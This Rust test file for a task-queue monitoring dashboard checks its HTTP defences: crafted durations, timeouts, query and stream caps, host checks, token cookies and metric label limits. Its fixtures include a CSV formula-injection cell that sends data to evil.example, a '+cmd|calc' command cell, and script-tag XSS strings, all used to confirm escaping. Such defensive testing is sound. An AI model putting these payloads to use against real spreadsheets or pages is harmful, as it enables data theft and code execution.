//! Issue #14 as an attacker tries it over HTTP: hostile query strings, panics, slow handlers,
//! too many queries and streams, formula cells, label floods, the token flow and foreign
//! `Host` headers. Each test fails without the defence it names.

use super::*;
use crate::http::auth::{HostPolicy, COOKIE};
use crate::http::limits::HttpLimits;
use crate::http::Access;
use axum::http::header;
use axum::Router;

fn request(uri: &str, headers: &[(&str, &str)]) -> Request<Body> {
    let mut r = Request::get(uri);
    for (k, v) in headers {
        r = r.header(*k, *v);
    }
    r.body(Body::empty()).unwrap()
}

#[tokio::test]
async fn absurd_durations_and_steps_are_400_not_panics() {
    let f = fixture().await;
    for uri in [
        "/api/reports/backlog?since=300000y",
        "/api/reports/failures?range=300000y",
        "/api/reports/throughput?until=300000y",
        "/api/reports/runtime?since=2026-11-23T10:00:00Z&until=2026-11-23T11:00:00Z&step=300000y",
        "/api/reports/backlog?since=1h&step=9000000000000000000ns",
        "/api/tasks?since=300000y",
        "/api/tasks?until=300000y",
        "/api/stats?since=300000y",
        "/export.csv?since=300000y",
    ] {
        let (status, body) = get(&f, uri).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{uri}: {body}");
        let v: Value = serde_json::from_str(&body).unwrap_or_else(|_| panic!("{uri}: {body}"));
        assert!(v["error"].is_string(), "{uri}: {body}");
    }
    for page in [
        "/reports?range=300000y",
        "/?range=300000y",
        "/tasks?since=300000y",
    ] {
        let (status, body) = get(&f, page).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{page}: {body}");
    }
}

#[tokio::test]
async fn a_panicking_handler_answers_500_json() {
    let (_f, state) = fixture_and_state(Options::default()).await;
    let app = super::super::with_guards(
        Router::new().route(
            "/api/boom",
            axum::routing::get(|| async {
                let v: Vec<u8> = Vec::new();
                v[usize::from(v.is_empty())].to_string()
            }),
        ),
        state,
    );
    let resp = app.oneshot(request("/api/boom", &[])).await.unwrap();
    assert_eq!(resp.status(), StatusCode::INTERNAL_SERVER_ERROR);
    let body = resp.into_body().collect().await.unwrap().to_bytes();
    let v: Value = serde_json::from_slice(&body).unwrap();
    assert!(
        v["error"].as_str().unwrap().contains("internal error"),
        "{v}"
    );
}

#[tokio::test]
async fn a_request_slower_than_the_timeout_answers_503() {
    let (_f, state) = fixture_and_state(Options {
        limits: HttpLimits {
            request_timeout: Duration::from_millis(100),
            ..HttpLimits::default()
        },
        ..Options::default()
    })
    .await;
    let app = super::super::with_guards(
        Router::new().route(
            "/api/slow",
            axum::routing::get(|| async {
                tokio::time::sleep(Duration::from_secs(5)).await;
                "late"
            }),
        ),
        state,
    );
    let started = std::time::Instant::now();
    let resp = app.oneshot(request("/api/slow", &[])).await.unwrap();
    assert_eq!(resp.status(), StatusCode::SERVICE_UNAVAILABLE);
    // Cut at the 100 ms timeout, not after the handler's 5 s (a loaded machine may add seconds).
    assert!(started.elapsed() < Duration::from_secs(4));
}

#[tokio::test]
async fn queries_past_the_cap_wait_then_503_and_a_stalled_export_gives_its_slot_back() {
    let (f, state) = fixture_and_state(Options {
        access: Access {
            max_queries: 1,
            query_wait: Duration::from_millis(200),
            ..Access::default()
        },
        ..Options::default()
    })
    .await;
    // An export whose client reads nothing: the header fills the channel, the next chunk
    // waits for a reader that never comes, holding the only query slot.
    let (tx, _never_read) = tokio::sync::mpsc::channel(1);
    state.reader.export_csv(
        crate::store::TaskQuery::default(),
        tx,
        Duration::from_millis(1_200),
    );
    let (status, body) = get_until(&f, "/api/tasks", StatusCode::SERVICE_UNAVAILABLE).await;
    assert_eq!(status, StatusCode::SERVICE_UNAVAILABLE, "{body}");
    assert!(body.contains("too many queries"), "{body}");
    let (status, _) = get(&f, "/tasks").await;
    assert_eq!(status, StatusCode::SERVICE_UNAVAILABLE, "pages too");
    // The export gives up after its send timeout and frees the slot.
    let (status, body) = get_until(&f, "/api/tasks", StatusCode::OK).await;
    assert_eq!(status, StatusCode::OK, "{body}");
}

/// GETs `uri` until it answers `want` or 5 s have passed; the last answer.
async fn get_until(f: &Fixture, uri: &str, want: StatusCode) -> (StatusCode, String) {
    let deadline = std::time::Instant::now() + Duration::from_secs(5);
    loop {
        let (status, body) = get(f, uri).await;
        if status == want || std::time::Instant::now() >= deadline {
            return (status, body);
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
}

#[tokio::test]
async fn live_streams_are_capped_and_end_on_shutdown() {
    let (stop, stopped) = tokio::sync::watch::channel(false);
    let f = fixture_with(Options {
        limits: HttpLimits {
            max_sse_clients: 1,
            ..HttpLimits::default()
        },
        shutdown: Some(stopped),
        ..Options::default()
    })
    .await;
    let first = f
        .app
        .clone()
        .oneshot(request("/api/events", &[]))
        .await
        .unwrap();
    assert_eq!(first.status(), StatusCode::OK);
    let (status, body) = get(&f, "/api/events").await;
    assert_eq!(status, StatusCode::SERVICE_UNAVAILABLE, "{body}");
    assert!(body.contains("--max-sse-clients"), "{body}");
    // Shutting down ends the open stream: its body completes.
    stop.send(true).unwrap();
    let ended = tokio::time::timeout(Duration::from_secs(3), first.into_body().collect()).await;
    assert!(ended.is_ok(), "the SSE stream outlived the shutdown");
    // Its slot is free again.
    let again = f
        .app
        .clone()
        .oneshot(request("/api/events", &[]))
        .await
        .unwrap();
    assert_eq!(again.status(), StatusCode::OK);
}

const FORMULAS: &str = r#"
INSERT INTO tasks (broker, id, queue, name, state, args, kwargs, result, retries, worker, updated_at) VALUES
 ('celery', '-2+3', '@SUM(A1)', '=HYPERLINK("http://evil.example/?"&A1,"click")', 'success', '[1]', '{}', '-3', 0, '+cmd|calc', '2026-11-23 10:05:00'),
 ('celery', 'tab', 'q', '	=1+1', 'success', '[]', '{}', '"
=2"', 0, NULL, '2026-11-23 10:05:01');
"#;

#[tokio::test]
async fn csv_cells_that_look_like_formulas_are_neutralised() {
    let (f, state) = fixture_and_state(Options::default()).await;
    state.reader.execute_for_test(FORMULAS).await;
    let (status, body) = get(
        &f,
        "/export.csv?name=%3DHYPERLINK(%22http%3A%2F%2Fevil.example%2F%3F%22%26A1%2C%22click%22)",
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    let line = body.lines().nth(1).unwrap_or_else(|| panic!("{body}"));
    assert!(
        line.starts_with(
            r#""'-2+3","celery","'@SUM(A1)","'=HYPERLINK(""http://evil.example/?""&A1,""click"")","success","[1]","{}","-3","#
        ),
        "{line}"
    );
    assert!(line.contains(r#""'+cmd|calc""#), "{line}");
    let (_, body) = get(&f, "/export.csv?q=tab").await;
    assert!(
        body.contains("\"'\t=1+1\""),
        "a leading tab is neutralised: {body}"
    );
}

#[tokio::test]
async fn metrics_labels_are_capped_in_number_and_length() {
    let task_metrics = crate::http::prometheus::TaskMetrics::new(3);
    let at = chrono::DateTime::parse_from_rfc3339("2026-11-23T10:01:00Z")
        .unwrap()
        .with_timezone(&chrono::Utc);
    let long = "n".repeat(5_000);
    for i in 0..200 {
        let mut task = Task::new(Broker::Celery, format!("t{i}"), at);
        task.queue = Some(format!("queue-{i}"));
        task.name = Some(if i == 0 {
            long.clone()
        } else {
            format!("junk.{i}")
        });
        task.state = TaskState::Success;
        task.runtime_ms = Some(5.0);
        task_metrics.record(&crate::store::TransitionEvent {
            transition: Transition {
                broker: Broker::Celery,
                task_id: task.id.clone(),
                state: TaskState::Success,
                at,
                worker: None,
                detail: None,
                fingerprint: None,
            },
            task: std::sync::Arc::new(task),
        });
    }
    let (f, state) = fixture_and_state(Options {
        task_metrics: Some(task_metrics),
        ..Options::default()
    })
    .await;
    state.reader.execute_for_test(MANY_QUEUES).await;
    let (status, text) = get(&f, "/metrics").await;
    assert_eq!(status, StatusCode::OK);
    let series: Vec<&str> = text
        .lines()
        .filter(|l| l.starts_with("taskscope_tasks_total{"))
        .collect();
    // At most 3 queues and 3 names of their own.
    let names: std::collections::BTreeSet<&str> = series
        .iter()
        .filter_map(|l| l.split("name=\"").nth(1)?.split('"').next())
        .collect();
    assert!(names.len() <= 4, "{names:?}");
    assert!(names.contains("other"), "{names:?}");
    let total: u64 = series
        .iter()
        .filter_map(|l| l.rsplit(' ').next()?.parse::<u64>().ok())
        .sum();
    // The fixture's two (c1 running, then success) plus 200.
    assert_eq!(total, 202, "every transition is still counted:\n{text}");
    assert!(
        text.lines().all(|l| l.len() < 1_000),
        "a 5,000-character name is cut"
    );
    // The three longest queues have gauges of their own; the others add up per broker.
    for needle in [
        "taskscope_queue_length{broker=\"celery\",queue=\"q5\"} 15",
        "taskscope_queue_length{broker=\"celery\",queue=\"q3\"} 13",
        "taskscope_queue_length{broker=\"celery\",queue=\"other\"} 33",
        "taskscope_queue_length{broker=\"dramatiq\",queue=\"other\"} 1",
    ] {
        assert!(text.contains(needle), "/metrics lacks {needle}:\n{text}");
    }
    let runtime_series = text
        .lines()
        .filter(|l| l.starts_with("taskscope_task_runtime_seconds_count{"))
        .count();
    assert!(runtime_series <= 4, "{text}");
}

const MANY_QUEUES: &str = r#"
INSERT INTO queue_latest (broker, queue, sampled_at, length, delayed, dead, running) VALUES
 ('celery', 'q0', '2026-11-23 10:04:00', 10, 0, 0, 0),
 ('celery', 'q1', '2026-11-23 10:04:00', 11, 0, 0, 0),
 ('celery', 'q2', '2026-11-23 10:04:00', 12, 0, 0, 0),
 ('celery', 'q3', '2026-11-23 10:04:00', 13, 0, 0, 0),
 ('celery', 'q4', '2026-11-23 10:04:00', 14, 0, 0, 0),
 ('celery', 'q5', '2026-11-23 10:04:00', 15, 0, 0, 0);
"#;

const HOSTILE_NAMES: &str = r#"
INSERT INTO tasks (broker, id, queue, name, state, args, kwargs, retries, updated_at) VALUES
 ('celery', 'x"><img src=x onerror=alert(1)>', 'a"&b<q>', '<script>alert(1)</script>', 'failure', '["<b>"]', '{}', 0, '2026-11-23 10:04:30');
INSERT INTO queue_latest (broker, queue, sampled_at, length, delayed, dead, running) VALUES ('celery', 'a"&b<q>', '2026-11-23 10:04:30', 4, 0, 0, 0);
"#;

#[tokio::test]
async fn redis_data_in_pages_is_escaped_and_percent_encoded_in_links() {
    let (f, state) = fixture_and_state(Options::default()).await;
    state.reader.execute_for_test(HOSTILE_NAMES).await;
    for page in [
        "/tasks".to_string(),
        "/queues".to_string(),
        "/".to_string(),
        format!("/reports?{WINDOW}"),
        "/tasks/x%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E".to_string(),
    ] {
        let (status, html) = get(&f, &page).await;
        assert_eq!(status, StatusCode::OK, "{page}");
        for raw in ["<script>alert(1)", "<img src=x", "<q>", "<b>"] {
            assert!(!html.contains(raw), "{page} renders {raw} raw");
        }
    }
    let (_, html) = get(&f, "/queues").await;
    assert!(
        html.contains("queue=a%22%26b%3Cq%3E"),
        "queue names are percent-encoded in links"
    );
    let (_, html) = get(&f, "/tasks").await;
    assert!(html.contains("href=\"/tasks/x%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert%281%29%3E\""));
}

const TOKEN: &str = "a+b&c=d%e";

fn with_token() -> Options {
    Options {
        access: Access {
            auth_token: Some(TOKEN.into()),
            ..Access::default()
        },
        ..Options::default()
    }
}

#[tokio::test]
async fn token_in_the_address_sets_a_hashed_cookie_and_redirects_without_it() {
    let f = fixture_with(with_token()).await;
    let (status, _) = get(&f, "/api/tasks").await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);

    let login = "/tasks?state=failure&token=a%2Bb%26c%3Dd%25e&broker=celery";
    let resp = send(&f, request(login, &[])).await;
    assert_eq!(resp.status(), StatusCode::SEE_OTHER);
    let h = resp.headers();
    assert_eq!(h[header::LOCATION], "/tasks?state=failure&broker=celery");
    assert_eq!(h[header::REFERRER_POLICY], "no-referrer");
    let cookie = h[header::SET_COOKIE].to_str().unwrap().to_string();
    assert!(cookie.starts_with(&format!("{COOKIE}=")), "{cookie}");
    assert!(cookie.contains("; HttpOnly") && cookie.contains("; SameSite=Strict"));
    assert!(!cookie.contains("Secure"), "plain http: {cookie}");
    assert!(
        !cookie.contains("a+b") && !cookie.contains("a%2Bb"),
        "{cookie}"
    );
    let session = cookie.split(';').next().unwrap().to_string();
    assert_eq!(
        session.len(),
        COOKIE.len() + 1 + 64,
        "a hex HMAC-SHA256: {session}"
    );

    let resp = send(&f, request("/tasks?state=failure", &[("cookie", &session)])).await;
    assert_eq!(resp.status(), StatusCode::OK);
    let raw = format!("{COOKIE}={TOKEN}");
    let resp = send(&f, request("/tasks", &[("cookie", &raw)])).await;
    assert_eq!(
        resp.status(),
        StatusCode::UNAUTHORIZED,
        "the token is not a cookie"
    );

    let bearer = format!("Bearer {TOKEN}");
    let resp = send(&f, request("/api/tasks", &[("authorization", &bearer)])).await;
    assert_eq!(resp.status(), StatusCode::OK);

    let https = send(&f, request(login, &[("x-forwarded-proto", "https")])).await;
    let cookie = https.headers()[header::SET_COOKIE].to_str().unwrap();
    assert!(cookie.ends_with("; Secure"), "{cookie}");

    let wrong = send(&f, request("/?token=a+b%26c%3Dd%25f", &[])).await;
    assert_eq!(wrong.status(), StatusCode::UNAUTHORIZED);
    assert!(wrong.headers().get(header::SET_COOKIE).is_none());
    assert_eq!(wrong.headers()[header::REFERRER_POLICY], "no-referrer");
    // `+` typed unencoded still means a plus.
    let typed = send(&f, request("/?token=a+b%26c%3Dd%25e", &[])).await;
    assert_eq!(typed.status(), StatusCode::SEE_OTHER);
}

#[tokio::test]
async fn healthz_tells_strangers_only_status_redis_and_version() {
    let f = fixture_with(with_token()).await;
    let (status, body) = get(&f, "/healthz").await;
    assert_eq!(status, StatusCode::OK);
    let v: Value = serde_json::from_str(&body).unwrap();
    let keys: Vec<&str> = v.as_object().unwrap().keys().map(String::as_str).collect();
    assert_eq!(keys, ["redis", "status", "version"], "{body}");
    let bearer = format!("Bearer {TOKEN}");
    let resp = send(&f, request("/healthz", &[("authorization", &bearer)])).await;
    let v: Value = serde_json::from_str(resp.body()).unwrap();
    assert!(v["store"].is_object(), "{v}");
}

#[tokio::test]
async fn without_a_token_foreign_hosts_are_refused() {
    let f = fixture().await;
    for host in [
        "evil.example:7979",
        "evil.example",
        "127.0.0.1.evil.example",
    ] {
        let resp = send(&f, request("/api/tasks", &[("host", host)])).await;
        assert_eq!(resp.status(), StatusCode::FORBIDDEN, "{host}");
        assert!(resp.body().contains("--allowed-hosts"), "{}", resp.body());
        let page = send(&f, request("/tasks", &[("host", host)])).await;
        assert_eq!(page.status(), StatusCode::FORBIDDEN, "{host}");
        let health = send(&f, request("/healthz", &[("host", host)])).await;
        assert_eq!(health.status(), StatusCode::OK);
        assert!(!health.body().contains("store"), "{}", health.body());
    }
    for host in [
        "localhost:7979",
        "127.0.0.1:7979",
        "[::1]:7979",
        "LOCALHOST",
    ] {
        let resp = send(&f, request("/api/tasks", &[("host", host)])).await;
        assert_eq!(resp.status(), StatusCode::OK, "{host}");
    }
    let listed = fixture_with(Options {
        access: Access {
            hosts: HostPolicy {
                listen: None,
                allowed: vec!["taskscope.internal".into()],
            },
            ..Access::default()
        },
        ..Options::default()
    })
    .await;
    let resp = send(
        &listed,
        request("/api/tasks", &[("host", "taskscope.internal:80")]),
    )
    .await;
    assert_eq!(resp.status(), StatusCode::OK);
}

/// Wait histograms are capped like the counters: queues past the cap fold into `other`, and no
/// observation is lost.
#[tokio::test]
async fn wait_histograms_fold_queues_past_the_label_cap_into_other() {
    let task_metrics = crate::http::prometheus::TaskMetrics::new(2);
    let at = chrono::DateTime::parse_from_rfc3339("2026-11-23T10:01:00Z")
        .unwrap()
        .with_timezone(&chrono::Utc);
    for i in 0..20 {
        let mut task = Task::new(Broker::Rq, format!("w{i}"), at);
        task.queue = Some(format!("queue-{i}"));
        task.name = Some("job".into());
        task.state = TaskState::Running;
        task.enqueued_at = Some(at - chrono::Duration::seconds(2));
        task.started_at = Some(at);
        task_metrics.record(&crate::store::TransitionEvent {
            transition: Transition {
                broker: Broker::Rq,
                task_id: task.id.clone(),
                state: TaskState::Running,
                at,
                worker: None,
                detail: None,
                fingerprint: None,
            },
            task: std::sync::Arc::new(task),
        });
    }
    let f = fixture_with(Options {
        task_metrics: Some(task_metrics),
        ..Options::default()
    })
    .await;
    let (_, text) = get(&f, "/metrics").await;
    let counts: Vec<&str> = text
        .lines()
        .filter(|l| l.starts_with("taskscope_task_wait_seconds_count{broker=\"rq\""))
        .collect();
    assert!(counts.len() <= 3, "{counts:?}");
    assert!(
        counts.iter().any(|l| l.contains("queue=\"other\"")),
        "{counts:?}"
    );
    let total: u64 = counts
        .iter()
        .filter_map(|l| l.rsplit(' ').next()?.parse::<u64>().ok())
        .sum();
    assert_eq!(total, 20, "{text}");
}
